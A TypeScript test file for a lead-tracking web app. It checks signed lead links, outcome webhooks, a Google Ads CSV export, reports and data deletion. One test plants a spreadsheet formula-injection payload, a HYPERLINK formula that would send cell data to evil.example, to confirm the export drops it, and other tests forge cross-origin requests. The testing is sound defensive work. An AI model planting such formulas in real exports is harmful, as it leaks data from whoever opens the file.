/**
 * What became of each lead, checked where staff and the ad platforms see it: the lead link's pages
 * (tampered, other-lead, expired and foreign-origin attempts refused, nothing recorded), the `lead`
 * command with its signed enquiry.updated webhook (a real receiver, verified with standardwebhooks),
 * the Google Ads import file and the report for a known set of leads, the migration, and forget.
 * Real SQLite files in temp folders; the staff commands run as staff run them.
 */
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { Webhook } from 'standardwebhooks';
import { openDatabase, type DB } from '../../src/db/db.js';
import { migrations } from '../../src/db/migrations.js';
import { saveEnquiry } from '../../src/enquiries/repository.js';
import { forgetEmail } from '../../src/enquiries/forget.js';
import { leadLinkSecret, leadLinks } from '../../src/leads/lead-link.js';
import { currentOutcome, outcomeHistory, recordOutcome } from '../../src/leads/outcomes.js';
import type { CleanTouch } from '../../src/attribution/sanitize.js';
import { composeDigest } from '../../src/digest/compose.js';
import { digestFigures } from '../../src/digest/figures.js';
import { startServer, validEnquiry, waitFor, staffCommand } from '../helpers.js';
import { startReceiver } from '../receiver.js';

const test = suite('lead outcomes');
const secret = `whsec_${randomBytes(32).toString('base64')}`;

/** A staff command as staff run it, against one database; resolves with its output and exit code. */
function staff(script: string, args: string[], env: Record<string, string>): Promise<{ stdout: string; stderr: string; code: number }> {
  return staffCommand(script, args, env).then(
    ({ stdout, stderr }) => ({ stdout, stderr, code: 0 }),
    (err: { stdout: string; stderr: string; code: number }) => ({ stdout: err.stdout, stderr: err.stderr, code: err.code }),
  );
}

function tempDb(): { db: DB; path: string; done: () => void } {
  const dir = mkdtempSync(join(tmpdir(), 'laserfocus-lead-'));
  const path = join(dir, 'enquiries.db');
  return { db: openDatabase(path), path, done: () => rmSync(dir, { recursive: true, force: true }) };
}

const touch = (
  channel: CleanTouch['channel'],
  source: string,
  medium: string,
  path: string,
  params: CleanTouch['params'] = {},
): CleanTouch => ({ at: '2026-01-01T00:00:00.000Z', path, params, referrer: '', channel, source, medium });

test('migration 11 keeps every existing enquiry, delivery and email; every old lead is new', () => {
  const dir = mkdtempSync(join(tmpdir(), 'laserfocus-lead-'));
  const path = join(dir, 'enquiries.db');
  try {
    const old = new Database(path);
    old.exec('CREATE TABLE schema_migrations (version INTEGER PRIMARY KEY, applied_at TEXT NOT NULL)');
    for (const m of migrations.filter((m) => m.version <= 10)) {
      old.exec(m.sql);
      old.prepare('INSERT INTO schema_migrations VALUES (?, ?)').run(m.version, '2026-01-01T00:00:00Z');
    }
    old
      .prepare(
        "INSERT INTO enquiries (created_at, name, email, phone, goals) VALUES ('2026-01-02T00:00:00Z', 'Old Lead', 'old@example.com.au', '0400 000 000', 'More calls')",
      )
      .run();
    old.prepare("INSERT INTO outbox (enquiry_id, kind, next_attempt_at, created_at) VALUES (1, 'staff', 'x', 'x')").run();
    old
      .prepare(
        "INSERT INTO webhook_deliveries (enquiry_id, url, webhook_id, next_attempt_at, created_at) VALUES (1, 'http://127.0.0.1:9/h', 'msg_old', 'x', 'x')",
      )
      .run();
    old.close();
    const db = openDatabase(path);
    assert.equal(db.prepare('SELECT name, email FROM enquiries').all(), [{ name: 'Old Lead', email: 'old@example.com.au' }]);
    assert.is((db.prepare('SELECT COUNT(*) AS n FROM outbox').get() as { n: number }).n, 1);
    assert.equal(db.prepare('SELECT webhook_id, event, outcome_id FROM webhook_deliveries').all(), [
      { webhook_id: 'msg_old', event: 'enquiry.created', outcome_id: null },
    ]);
    assert.is(currentOutcome(db, 1).outcome, 'new');
    db.close();
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test('lead links: GET changes nothing; tampered, other-lead, other-action, expired and foreign-origin attempts are refused with a plain page', async () => {
  let skewMs = 0;
  const server = await startServer({ FORM_MIN_FILL_MS: '0' }, { now: () => new Date(Date.now() + skewMs) });
  try {
    const post = (email: string) => server.app.inject({ method: 'POST', url: '/api/seo-audit-request', payload: validEnquiry({ email }) });
    const one = (await post('one@example.com.au')).json().id as number;
    const two = (await post('two@example.com.au')).json().id as number;
    const key = leadLinkSecret(server.app.db, '');
    const linksOne = leadLinks(key, server.url, one, server.config.LEAD_LINK_DAYS);
    const linksTwo = leadLinks(key, server.url, two, server.config.LEAD_LINK_DAYS);
    const tokenOf = (link: string) => new URL(link).searchParams.get('token')!;
    const recorded = () => (server.app.db.prepare('SELECT COUNT(*) AS n FROM enquiry_outcomes').get() as { n: number }).n;

    const page = await fetch(linksOne.won);
    const html = await page.text();
    assert.is(page.status, 200);
    assert.is(page.headers.get('cache-control'), 'no-store');
    assert.is(page.headers.get('referrer-policy'), 'no-referrer');
    assert.is(page.headers.get('x-robots-tag'), 'noindex');
    assert.match(html, '<meta name="robots" content="noindex');
    assert.match(html, '<h1>Mark as won?</h1>');
    assert.match(html, 'Jane Citizen');
    assert.is(recorded(), 0, 'opening the link recorded nothing');

    const refused = async (url: string, init: RequestInit | undefined, status: number, heading: string) => {
      const res = await fetch(url, { redirect: 'manual', ...init });
      const body = await res.text();
      assert.is(res.status, status, url);
      assert.match(body, `<h1>${heading}</h1>`);
      assert.not.match(body, /at \S+ \(|Error:|node_modules/, 'no stack trace');
      assert.is(res.headers.get('x-robots-tag'), 'noindex');
    };
    const [expires, signature] = tokenOf(linksOne.won).split('.') as [string, string];
    const flipped = `${signature.slice(0, -2)}${signature.at(-2) === 'A' ? 'B' : 'A'}${signature.at(-1)}`;
    await refused(`${server.url}/lead/${one}/won?token=${expires}.${flipped}`, undefined, 403, 'This link does not work');
    await refused(
      `${server.url}/lead/${one}/won?token=${Number(expires) + 86_400}.${signature}`,
      undefined,
      403,
      'This link does not work',
    );
    await refused(`${server.url}/lead/${one}/won?token=${tokenOf(linksTwo.won)}`, undefined, 403, 'This link does not work');
    await refused(`${server.url}/lead/${one}/lost?token=${tokenOf(linksOne.won)}`, undefined, 403, 'This link does not work');
    await refused(`${server.url}/lead/${one}/won`, undefined, 403, 'This link does not work');
    const form = (token: string, origin = server.url) => ({
      method: 'POST',
      headers: { 'content-type': 'application/x-www-form-urlencoded', origin },
      body: `token=${encodeURIComponent(token)}&value=4800`,
    });
    await refused(`${server.url}/lead/${one}/won`, form(tokenOf(linksTwo.won)), 403, 'This link does not work');
    await refused(
      `${server.url}/lead/${one}/won`,
      form(tokenOf(linksOne.won), 'https://evil.example'),
      403,
      'This form only works on our website',
    );
    // Origin: null is what the page itself sends (no-referrer); from anywhere but this site it is refused.
    const fromNull = (site: string) =>
      server.app.inject({
        method: 'POST',
        url: `/lead/${one}/won`,
        headers: { 'content-type': 'application/x-www-form-urlencoded', origin: 'null', 'sec-fetch-site': site },
        payload: `token=${tokenOf(linksOne.won)}&value=1`,
      });
    assert.is((await fromNull('cross-site')).statusCode, 403);
    assert.is(recorded(), 0, 'no refused attempt recorded anything');

    // The app's clock moves past LEAD_LINK_DAYS: the genuine link is now told it expired.
    skewMs = (server.config.LEAD_LINK_DAYS + 1) * 86_400_000;
    await refused(linksOne.won, undefined, 410, 'This link has expired');
    await refused(`${server.url}/lead/${one}/won`, form(tokenOf(linksOne.won)), 410, 'This link has expired');
    assert.is(recorded(), 0);

    skewMs = 0;
    const bad = await fetch(`${server.url}/lead/${one}/won`, {
      ...form(tokenOf(linksOne.won)),
      body: `token=${tokenOf(linksOne.won)}&value=lots`,
    });
    assert.is(bad.status, 400);
    assert.match(await bad.text(), 'Please give the value as an amount in dollars');
    const ok = await fetch(`${server.url}/lead/${one}/won`, { ...form(tokenOf(linksOne.won)), redirect: 'manual' });
    assert.is(ok.status, 303);
    const now = currentOutcome(server.app.db, one);
    assert.equal([now.outcome, now.value_cents], ['won', 480_000]);
    assert.is(outcomeHistory(server.app.db, one)[0]!.changed_by, 'staff email link');
    assert.is(currentOutcome(server.app.db, two).outcome, 'new', 'the other lead is untouched');
  } finally {
    await server.close();
  }
});

test('npm run lead records each change with its history and sends a signed enquiry.updated the reference library verifies', async () => {
  const receiver = await startReceiver();
  const env = { WEBHOOK_URL: receiver.url, WEBHOOK_SECRET: secret, MAIL_POLL_MS: '50', WEBHOOK_RETRY_BASE_MS: '50', FORM_MIN_FILL_MS: '0' };
  const server = await startServer(env);
  try {
    const id = (
      await server.app.inject({ method: 'POST', url: '/api/seo-audit-request', payload: validEnquiry({ email: 'cli@example.com.au' }) })
    ).json().id as number;
    await waitFor(() => receiver.requests.length === 1, 10_000, 'enquiry.created');
    const cmd = (args: string[]) => staff('lead', args, { ...env, DATABASE_PATH: server.config.DATABASE_PATH });

    const usage = await cmd([String(id), '--won', 'lots']);
    assert.is(usage.code, 2);
    assert.match(usage.stderr, '--won takes the value in AUD');
    const both = await cmd([String(id), '--contacted', '--lost', 'x']);
    assert.is(both.code, 2);
    assert.is((await cmd(['99999', '--contacted'])).code, 1);

    assert.is((await cmd([String(id), '--contacted'])).code, 0);
    const won = await cmd([String(id), '--won', '4,800']);
    assert.is(won.code, 0);
    assert.match(won.stdout, 'is now: Won ($4,800)');
    const lost = await cmd([String(id), '--lost', 'went elsewhere']);
    assert.match(lost.stdout, 'is now: Lost: went elsewhere');
    const shown = await cmd([String(id)]);
    assert.match(
      shown.stdout,
      /Contacted\s+\(command line\)[\s\S]*Won \(\$4,800\)\s+\(command line\)[\s\S]*Lost: went elsewhere\s+\(command line\)/,
    );

    // The running site's outbox delivers what the command queued, in order, each signed.
    const updates = await waitFor(
      () => {
        const u = receiver.requests.filter((r) => r.body.includes('"enquiry.updated"'));
        return u.length === 3 ? u : undefined;
      },
      10_000,
      'three enquiry.updated deliveries',
    );
    const bodies = updates.map(
      (r) =>
        new Webhook(secret).verify(r.body, {
          'webhook-id': String(r.headers['webhook-id']),
          'webhook-timestamp': String(r.headers['webhook-timestamp']),
          'webhook-signature': String(r.headers['webhook-signature']),
        }) as { type: string; data: Record<string, unknown> },
    );
    assert.equal(
      bodies.map((b) => [b.data.outcome, b.data.previous_outcome, b.data.value, b.data.currency, b.data.reason]),
      [
        ['contacted', 'new', null, null, null],
        ['won', 'contacted', 4800, 'AUD', null],
        ['lost', 'won', null, null, 'went elsewhere'],
      ],
    );
    assert.equal(
      bodies.map((b) => [b.type, b.data.id, b.data.email, b.data.changed_by]),
      Array(3).fill(['enquiry.updated', id, 'cli@example.com.au', 'command line']),
    );
    assert.is(new Set(updates.map((r) => r.headers['webhook-id'])).size, 3, 'each change has its own message id');
  } finally {
    await server.close();
    await receiver.close();
  }
});

test('lead pages are rate-limited per connection, with a plain page', async () => {
  const server = await startServer({ LEAD_RATE_MAX: '3' });
  try {
    const statuses: number[] = [];
    for (let i = 0; i < 4; i++) statuses.push((await server.app.inject({ method: 'GET', url: '/lead/1/won?token=1.x' })).statusCode);
    assert.equal(statuses, [403, 403, 403, 429]);
    const limited = await server.app.inject({ method: 'GET', url: '/lead/1/won?token=1.x' });
    assert.match(limited.body, '<h1>Too many requests</h1>');
    assert.is(limited.headers['x-robots-tag'], 'noindex');
    const other = await server.app.inject({ method: 'GET', url: '/lead/1/won?token=1.x', remoteAddress: '10.9.9.9' });
    assert.is(other.statusCode, 403, 'another connection is not limited');
  } finally {
    await server.close();
  }
});

/** The known set: eight leads with where they came from, when they arrived and what became of them. */
function seedKnownSet(db: DB): Record<string, number> {
  const ads = (gclid: Record<string, string>) =>
    touch('Paid Search', 'google', 'cpc', '/strategy/google-ads', {
      utm_source: 'google',
      utm_medium: 'cpc',
      utm_campaign: 'spring',
      ...gclid,
    });
  const leads: [key: string, created: string, last: CleanTouch | undefined, first: CleanTouch | undefined, spam?: boolean][] = [
    ['A', '2026-03-02T00:00:00.000Z', ads({ gclid: 'GCLID-A' }), undefined],
    ['B', '2026-03-03T00:00:00.000Z', touch('Organic Search', 'google', 'organic', '/strategy/seo'), ads({ gclid: 'GCLID-B-first' })],
    ['C', '2026-03-04T00:00:00.000Z', ads({ gbraid: 'GBRAID-C' }), undefined],
    ['D', '2026-03-05T00:00:00.000Z', ads({ gclid: 'GCLID-D' }), undefined],
    ['E', '2026-03-05T12:00:00.000Z', ads({ gclid: 'GCLID-E' }), undefined],
    ['F', '2026-03-06T00:00:00.000Z', touch('Referral', 'partner.example.com.au', 'referral', '/design/web-design'), undefined],
    ['G', '2026-03-07T00:00:00.000Z', ads({ gclid: 'GCLID-SPAM' }), undefined, true],
    ['H', '2026-01-20T00:00:00.000Z', ads({ gclid: 'GCLID-H' }), undefined],
  ];
  const ids: Record<string, number> = {};
  for (const [key, created, last, first, spam] of leads) {
    const values = {
      name: `Lead ${key}`,
      email: `${key.toLowerCase()}@example.com.au`,
      phone: '0400 000 000',
      website: '',
      goals: `Goals of ${key}`,
    };
    const id = saveEnquiry(db, {
      values,
      source: '/',
      userAgent: '',
      ip: '',
      acknowledge: false,
      webhookUrls: [],
      spamReason: spam ? 'honeypot' : undefined,
      attribution: { via: 'browser', last, first },
    });
    db.prepare('UPDATE enquiries SET created_at = ? WHERE id = ?').run(created, id);
    ids[key] = id;
  }
  const mark = (key: string, now: string, change: { outcome: 'contacted' | 'won' | 'lost'; valueAud?: number; reason?: string }) =>
    recordOutcome(db, ids[key]!, { ...change, by: 'command line', now, webhookUrls: [] });
  mark('A', '2026-03-04T00:00:00.000Z', { outcome: 'contacted' });
  mark('A', '2026-03-10T03:04:05.000Z', { outcome: 'won', valueAud: 4800 });
  mark('B', '2026-06-15T02:30:00.000Z', { outcome: 'won', valueAud: 1250.5 });
  mark('C', '2026-03-20T00:00:00.000Z', { outcome: 'won', valueAud: 900 });
  mark('D', '2026-03-09T00:00:00.000Z', { outcome: 'lost', reason: 'went elsewhere' });
  mark('E', '2026-03-10T00:00:00.000Z', { outcome: 'won', valueAud: 2000 });
  mark('E', '2026-03-12T00:00:00.000Z', { outcome: 'lost', reason: 'cancelled before starting' });
  mark('F', '2026-04-01T00:00:00.000Z', { outcome: 'won', valueAud: 3000 });
  mark('G', '2026-03-08T00:00:00.000Z', { outcome: 'won', valueAud: 99999 });
  mark('H', '2026-02-01T00:00:00.000Z', { outcome: 'won', valueAud: 700 });
  return ids;
}

test('the Google Ads export of the known set matches the import template row for row', async () => {
  const { db, path, done } = tempDb();
  try {
    seedKnownSet(db);
    db.close();
    const env = { DATABASE_PATH: path, TIME_ZONE: 'Australia/Melbourne' };
    const out = await staff('export', ['--format', 'google-ads', '--since', '2026-03-01'], env);
    assert.is(out.code, 0, out.stderr);
    assert.equal(out.stdout.split('\n'), [
      'Parameters:TimeZone=Australia/Melbourne',
      'Google Click ID,Conversion Name,Conversion Time,Conversion Value,Conversion Currency',
      // Won 10 Mar 03:04:05 UTC: 14:04:05 in Melbourne's daylight time; 15 Jun 02:30 UTC: 12:30 in its standard time.
      'GCLID-A,Won client,2026-03-10 14:04:05,4800.00,AUD',
      'GCLID-B-first,Won client,2026-06-15 12:30:00,1250.50,AUD',
      '',
    ]);
    assert.match(out.stderr, 'Wrote 2 conversions');
    assert.match(out.stderr, 'Left out 1 won lead(s) that carried only a gbraid or wbraid');
    assert.match(out.stderr, 'Left out 1 won lead(s) without a Google click id');
    const named = await staff('export', ['--format', 'google-ads', '--since', '2026-01-01', '--until', '2026-02-28'], {
      ...env,
      ADS_CONVERSION_NAME: 'Signed client, retainer',
    });
    assert.equal(named.stdout.split('\n').slice(2), ['GCLID-H,"Signed client, retainer",2026-02-01 11:00:00,700.00,AUD', '']);
  } finally {
    done();
  }
});

test('a click id that is a formula never reaches the Google Ads file: dropped at the door, left out and named when stored before', async () => {
  const server = await startServer();
  try {
    const db = server.app.db;
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
    const landing = {
      at: Date.now() - 60_000,
      path: '/strategy/google-ads',
      params: { utm_source: 'google', utm_medium: 'cpc', utm_campaign: formula, gclid: formula },
    };
    const posted = await server.app.inject({
      method: 'POST',
      url: '/api/seo-audit-request',
      payload: validEnquiry({ email: 'door@example.com.au', attribution: { first: landing, last: landing, pages: 1 } }),
    });
    assert.is(posted.statusCode, 201, posted.body);
    const door = posted.json().id as number;
    assert.equal(
      db.prepare('SELECT touch, gclid, utm_campaign FROM enquiry_touches WHERE enquiry_id = ? ORDER BY touch').all(door),
      [
        { touch: 'first', gclid: '', utm_campaign: formula },
        { touch: 'last', gclid: '', utm_campaign: formula },
      ],
      'the forged gclid is dropped as it arrives; the campaign tag is kept as text',
    );

    // Rows written before click ids were checked on arrival: saved as they were then, past the door.
    const stored = (email: string, gclid: string) => {
      const values = { name: 'Old lead', email, phone: '0400 000 000', website: '', goals: 'Stored before the fix' };
      return saveEnquiry(db, {
        values,
        source: '/',
        userAgent: '',
        ip: '',
        acknowledge: false,
        webhookUrls: [],
        attribution: { via: 'browser', last: touch('Paid Search', 'google', 'cpc', '/strategy/google-ads', { gclid }) },
      });
    };
    const forged = stored('forged@example.com.au', formula);
    const dash = stored('dash@example.com.au', '-A1-B2');
    const good = stored('good@example.com.au', 'Cj0KCQiA-_good');
    for (const id of [door, forged, dash, good])
      recordOutcome(db, id, { outcome: 'won', valueAud: 1000, by: 'command line', now: new Date().toISOString(), webhookUrls: [] });

    const out = await staff('export', ['--format', 'google-ads'], { DATABASE_PATH: server.config.DATABASE_PATH });
    assert.is(out.code, 0, out.stderr);
    assert.not.match(out.stdout, 'HYPERLINK');
    const cells = out.stdout
      .trim()
      .split('\n')
      .slice(2)
      .map((line) => line.split(','));
    assert.equal(
      cells.map((c) => c[0]),
      ['Cj0KCQiA-_good'],
      'only the gclid Google could have issued, exactly',
    );
    assert.ok(
      cells.flat().every((cell) => !/^[=+\-@\t\r]/.test(cell)),
      'no cell a spreadsheet would run',
    );
    assert.match(out.stderr, 'Wrote 1 conversion');
    assert.match(out.stderr, 'Left out 1 won lead(s) without a Google click id');
    assert.match(out.stderr, 'Left out 2 won lead(s) whose stored Google click id has characters other than letters, digits, - and _');
    assert.match(out.stderr, `Enquiry id(s): ${forged}, ${dash}.`);

    const named = await staff('export', ['--format', 'google-ads'], {
      DATABASE_PATH: server.config.DATABASE_PATH,
      ADS_CONVERSION_NAME: formula,
    });
    assert.is(named.code, 1);
    assert.match(named.stderr, 'Invalid setting ADS_CONVERSION_NAME');
    assert.is(named.stdout, '', 'no file with a formula for its conversion name');
  } finally {
    await server.close();
  }
});

test("the report's won-by-channel table, rate and median days match the known set; the HTML report charts it", async () => {
  const { db, path, done } = tempDb();
  try {
    seedKnownSet(db);
    db.close();
    const out = await staff('report', ['--format', 'json'], { DATABASE_PATH: path });
    assert.is(out.code, 0, out.stderr);
    const sections = (JSON.parse(out.stdout) as { sections: { title: string; rows: (string | number)[][] }[] }).sections;
    const section = (title: string) => sections.find((s) => s.title === title)!.rows;
    assert.equal(section('Won leads by channel (converting visit)'), [
      ['Paid Search', 5, 3, '60.0%', 6400],
      ['Referral', 1, 1, '100.0%', 3000],
      ['Organic Search', 1, 1, '100.0%', 1250.5],
    ]);
    assert.equal(section('Customers: what became of the enquiries received'), [
      ['Enquiries (not spam)', 7],
      ['Won (became clients)', 5],
      ['Lost', 2],
      ['Still open (new, contacted or qualified)', 0],
      ['Revenue won (AUD)', 10650.5],
      ['Enquiry-to-customer rate', '71.4%'],
      ['Median days from enquiry to won', 16],
    ]);
    assert.equal(
      section('Won leads by landing page (converting visit)').map((r) => r.slice(0, 3)),
      [
        ['/strategy/google-ads', 5, 3],
        ['/design/web-design', 1, 1],
        ['/strategy/seo', 1, 1],
      ],
    );
    const html = await staff('report', ['--format', 'html'], { DATABASE_PATH: path });
    assert.match(html.stdout, '<h2>Customers by channel</h2>');
    assert.match(
      html.stdout,
      /<svg[^>]*>[\s\S]*Paired bars of enquiries and won leads for 3 channels: Paid Search 3 won of 5 enquiries, \$6,400/,
    );
    assert.not.match(html.stdout, /Lead [A-H]|@example\.com\.au/, 'the report names nobody');
  } finally {
    done();
  }
});

test('the weekly digest counts the week’s wins and the eight weeks’ enquiry-to-customer rate, naming nobody', async () => {
  const { db, done } = tempDb();
  try {
    seedKnownSet(db);
    const none = { failed: 0, overdue: 0 };
    const digest = await composeDigest(
      digestFigures(db, '2026-03-09', 'Australia/Melbourne', { mail: none, webhooks: none, replication: { state: 'ok' } }),
      10,
    );
    // A was won on 10 March (8.1 days after it arrived); E was won that week too but later lost.
    assert.match(digest.text, '1 lead marked as won this week, worth $4,800 in all. A median of 8.1 days from enquiry to won.');
    assert.match(digest.text, 'Of the 7 enquiries received in the 8 weeks to this one, 5 became clients so far (71.4%).');
    assert.match(digest.text, /Leads won this week by source \/ medium \/ campaign[\s\S]*google \/ cpc \/ spring\s+1\s+4800/);
    assert.ok(
      digest.images.some((i) => i.cid === 'won-channel@digest'),
      'the chart of enquiries against won leads by channel is attached',
    );
    assert.not.match(digest.text + digest.html, /Lead [A-H]|@example\.com\.au/, 'the digest names nobody');
  } finally {
    db.close();
    done();
  }
});

test('forget removes the person’s outcomes and their history with them', () => {
  const { db, path, done } = tempDb();
  try {
    const ids = seedKnownSet(db);
    const removed = forgetEmail(db, path, 'A@example.com.au');
    assert.is(removed.outcomes, 2);
    assert.is((db.prepare('SELECT COUNT(*) AS n FROM enquiry_outcomes WHERE enquiry_id = ?').get(ids.A) as { n: number }).n, 0);
    assert.is((db.prepare('SELECT COUNT(*) AS n FROM lead_outcomes WHERE enquiry_id = ?').get(ids.A) as { n: number }).n, 0);
    assert.is((db.prepare('SELECT COUNT(*) AS n FROM enquiry_outcomes').get() as { n: number }).n, 8, "everyone else's are kept");
    db.close();
  } finally {
    done();
  }
});

test.run();
